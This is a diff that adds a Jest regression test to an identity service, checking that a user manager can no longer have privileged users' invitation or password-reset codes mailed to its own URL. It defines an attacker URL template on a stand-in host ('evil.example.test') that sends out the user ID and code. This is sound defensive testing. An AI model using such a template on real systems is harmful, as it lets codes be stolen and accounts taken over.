@@ -5,22 +5,29 @@
 //   (an e-mail address) for anyone who sent it: Profiles §4.4.4.1 requires the signature; now refused, session lives.
 // - Device authorization: a public client's endpoint is anonymous and stored a row per call without bound (PAR has
 //   MAX_LIVE_PUSHES): now at most 5,000 live per client, beyond that 429 slow_down with Retry-After.
+// - Invitations (and password resets) sent inside the caller's URL template: an ORG_USER_MANAGER could send an
+//   invited IAM_OWNER (or its ORG_OWNER) a genuine svc mail whose link takes the code to the manager's server, then
+//   set the password: the account taken over. Now the template needs "who may change an account", as returning the
+//   code does (Errors.User.MorePrivileged); svc's own page, and the templates of a login client, stay allowed.
 import { deflateRawSync } from "node:zlib";
 import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
-import { createHuman, defaultOrgId, type Machine, project } from "../support/fixtures.js";
+import { addMember, createHuman, defaultOrgId, type Machine, machine, project } from "../support/fixtures.js";
 import { issuerOf, loginClient, type OidcApp, oidcApp, postForm, type SessionRef, signIn } from "../support/oidc.js";
-import { admin, call } from "../support/rpc.js";
+import { admin, call, fails, ok } from "../support/rpc.js";
 import { createResponse, nodeSamlSp, REDIRECT, samlApp, samlRequestOf, spMetadata, ssoRedirect } from "../support/saml.js";
 import { startTestServer, type TestServer } from "../support/server.js";
+import { linkFrom, type SmtpSink, startSmtpSink } from "../support/smtp.js";
 
 let t: TestServer;
+let smtp: SmtpSink;
 let orgId: string;
 let projectId: string;
 let login: Machine;
 let alice: string;
 
 beforeAll(async () => {
-  t = await startTestServer();
+  smtp = await startSmtpSink();
+  t = await startTestServer({ SVC_SMTP_URL: smtp.url, SVC_SMTP_FROM: "svc <no-reply@example.test>" });
   orgId = await defaultOrgId(t);
   login = await loginClient(t, orgId, "attack-review-login");
   projectId = await project(t, orgId, "Attack Review");
@@ -30,6 +37,7 @@ beforeAll(async () => {
 }, 120_000);
 afterAll(async () => {
   await t?.stop();
+  await smtp?.close();
 });
 
 const alive = async (s: SessionRef) => (await call(t, "rest", login.pat, "GetSession", { sessionId: s.sessionId, sessionToken: s.sessionToken })).code === "ok";
@@ -100,5 +108,64 @@ describe("Device authorization: bounded storage of an anonymous endpoint", () =>
     // Once they expire, the client is served again.
     t.advanceClock(601_000);
     expect((await ask(tv.clientId)).status).toBe(200);
+  }, 60_000);
+});
+
+describe("Codes that set a password, sent inside the caller's URL template", () => {
+  const evil = "https://evil.example.test/welcome?u={{.UserID}}&c={{.Code}}";
+  let manager: Machine;
+
+  beforeAll(async () => {
+    manager = await machine(t, orgId, "ar-user-manager", ["ORG_USER_MANAGER"]);
+  });
+
+  /** A human of the organization without a password (an invitation's subject). */
+  async function invitee(username: string): Promise<string> {
+    const { id } = await admin(t, "CreateUser", {
+      organizationId: orgId,
+      username,
+      human: { profile: { givenName: "In", familyName: "Vitee" }, email: { email: `${username}@example.com` } },
+    });
+    return id;
+  }
+
+  it("an ORG_USER_MANAGER cannot have an invited IAM_OWNER's code sent to its own URL; svc's page and a plain user's stay allowed", async () => {
+    const admin2 = await invitee("ar-invited-admin");
+    await admin(t, "AddInstanceMember", { userId: admin2, roles: ["IAM_OWNER"] });
+    await fails(
+      t,
+      "rest",
+      manager.pat,
+      "CreateInviteCode",
+      { userId: admin2, sendCode: { urlTemplate: evil } },
+      "permission_denied",
+      "Errors.User.MorePrivileged",
+    );
+    await fails(
+      t,
+      "connect",
+      manager.pat,
+      "CreateInviteCode",
+      { userId: admin2, sendCode: { urlTemplate: evil } },
+      "permission_denied",
+      "Errors.User.MorePrivileged",
+    );
+    // To svc's own invitation page, as before.
+    await ok(t, "rest", manager.pat, "CreateInviteCode", { userId: admin2, sendCode: {} });
+    expect(new URL(linkFrom(await smtp.next("ar-invited-admin@example.com"))).pathname).toBe("/ui/login/invite");
+    // A user without roles: the manager's template is fine.
+    const plain = await invitee("ar-invited-plain");
+    await ok(t, "rest", manager.pat, "CreateInviteCode", { userId: plain, sendCode: { urlTemplate: evil } });
+    expect(new URL(linkFrom(await smtp.next("ar-invited-plain@example.com"))).host).toBe("evil.example.test");
+  }, 60_000);
+
+  it("nor its ORG_OWNER's password reset code; a login client's template (its login UI) stays allowed", async () => {
+    const owner = await createHuman(t, orgId, "ar-owner");
+    await addMember(t, orgId, owner, ["ORG_OWNER"]);
+    await fails(t, "rest", manager.pat, "PasswordReset", { userId: owner, sendLink: { urlTemplate: evil } }, "permission_denied", "Errors.User.MorePrivileged");
+    await ok(t, "rest", manager.pat, "PasswordReset", { userId: owner, sendLink: {} });
+    await smtp.next("ar-owner@example.com");
+    await ok(t, "rest", login.pat, "PasswordReset", { userId: owner, sendLink: { urlTemplate: "https://login.example.test/reset?c={{.Code}}" } });
+    expect(new URL(linkFrom(await smtp.next("ar-owner@example.com"))).host).toBe("login.example.test");
   }, 60_000);
 });
